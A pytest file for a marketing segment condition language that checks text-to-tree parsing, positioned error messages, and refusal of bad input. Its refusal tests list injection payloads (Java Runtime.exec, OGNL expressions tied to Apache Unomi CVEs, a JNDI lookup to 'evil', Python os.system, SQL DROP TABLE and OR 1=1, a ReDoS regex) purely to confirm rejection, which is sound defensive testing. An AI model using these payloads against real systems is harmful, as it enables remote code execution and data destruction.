"""The condition language: text and tree, errors with position, hostile input refused."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from closedloop.errors import InvalidInputError
from closedloop.segments import parse_condition, to_text, validate_tree

EXAMPLES = {
    "mood is positive": {"mood": "positive"},
    "mood is negative or churn risk": {"or": [{"mood": "negative"}, {"churn_risk": True}]},
    "latest nps >= 9 within 90 days": {"latest_nps": {"op": ">=", "value": 9, "within_days": 90}},
    'visited page "/account/kuendigung*" within 30 days': {
        "visited_page": {"path": "/account/kuendigung*", "within_days": 30}
    },
    'did "Product Viewed" with category = "Laufschuhe" at least 2 times within 365 days': {
        "did": {
            "event": "Product Viewed",
            "with": {"category": "Laufschuhe"},
            "at_least": 2,
            "within_days": 365,
        }
    },
    'trait plan = "gold"': {"trait": {"name": "plan", "op": "=", "value": "gold"}},
    'trait city in ["Dresden", "Leipzig"]': {
        "trait": {"name": "city", "op": "in", "value": ["Dresden", "Leipzig"]}
    },
    "trait createdAt before 30 days ago": {
        "trait": {"name": "createdAt", "op": "before", "days_ago": 30}
    },
    "trait email is present": {"trait": {"name": "email", "op": "present"}},
    "trait phone is absent": {"trait": {"name": "phone", "op": "absent"}},
    "consent surveys": {"consent": "surveys"},
    "in segment promoters": {"segment": "promoters"},
    "NOT (Mood Is Positive) AND trait age >= 30.5": {
        "and": [
            {"not": {"mood": "positive"}},
            {"trait": {"name": "age", "op": ">=", "value": 30.5}},
        ]
    },
}


@pytest.mark.parametrize(("text", "tree"), list(EXAMPLES.items()))
def test_condition_text_parses_to_the_tree_and_back(text: str, tree: dict[str, Any]) -> None:
    assert parse_condition(text) == tree
    assert parse_condition(to_text(tree)) == tree
    assert validate_tree(tree) == tree


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("mood is", "ends too early"),
        ("mood is happy", "expected one of positive, neutral, negative"),
        ("trait x ~ 3", "line 1, column 9: unexpected `~`"),
        ("mood is positive\nand\ntrait", "ends too early"),
        ("mood is positive\n  or ) churn risk", "line 2, column 6"),
        ('did "x" at least 0 times', "`did.at_least`"),
        ('visited page "/a*b*c*d*e*f*" ', "at most 5 `*`"),
        ("latest nps >= 11", "a score from 0 to 10"),
        ("trait x before 99999 days ago", "days from 1 to 3650"),
        ("", "empty condition"),
    ],
)
def test_bad_conditions_say_where_and_what(text: str, message: str) -> None:
    with pytest.raises(InvalidInputError) as caught:
        parse_condition(text)
    assert message in caught.value.message
    assert caught.value.field == "condition"


@pytest.mark.parametrize(
    "hostile",
    [
        # Apache Unomi advisories (CVE-2020-11975, CVE-2020-13942): MVEL / OGNL in conditions
        'script::Runtime r = Runtime.getRuntime(); r.exec("touch /tmp/x");',
        "trait x = T(java.lang.Runtime).getRuntime().exec('id')",
        "${jndi:ldap://evil/x}",
        "__import__('os').system('id')",
        'trait x = "a"; DROP TABLE profiles; --',
        "mood is positive) OR 1=1 --",
        "(" * 5000 + "mood is positive" + ")" * 5000,
        "not " * 200 + "mood is positive",
        "x" * 5000,
        "trait a\u0000b = 1",
    ],
)
def test_hostile_conditions_are_refused(hostile: str) -> None:
    with pytest.raises(InvalidInputError):
        parse_condition(hostile)


@pytest.mark.parametrize(
    "tree",
    [
        {"eval": "1"},
        {"and": []},
        {"trait": {"name": "x; DROP TABLE", "op": "=", "value": 1}},
        {"trait": {"name": "x", "op": "=~", "value": ".*"}},
        {"did": {"event": "E", "with": {"a": {"$gt": 1}}}},
        {"mood": "positive", "or": []},
        {"visited_page": {"path": "/x", "regex": "(a+)+$"}},
        {"latest_nps": {"op": ">=", "value": float("nan")}},
        {"and": [{"mood": "positive"}] * 101},
    ],
)
def test_bad_trees_are_refused(tree: dict[str, Any]) -> None:
    with pytest.raises(InvalidInputError):
        validate_tree(tree)


def test_depth_is_limited() -> None:
    tree: dict[str, Any] = {"mood": "positive"}
    for _ in range(20):
        tree = {"not": tree}
    with pytest.raises(InvalidInputError, match="nested deeper"):
        validate_tree(tree)


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=300))
def test_any_text_parses_or_is_refused_cleanly(text: str) -> None:
    try:
        tree = parse_condition(text)
    except InvalidInputError as exc:
        assert exc.field == "condition"
    else:
        assert parse_condition(to_text(tree)) == tree
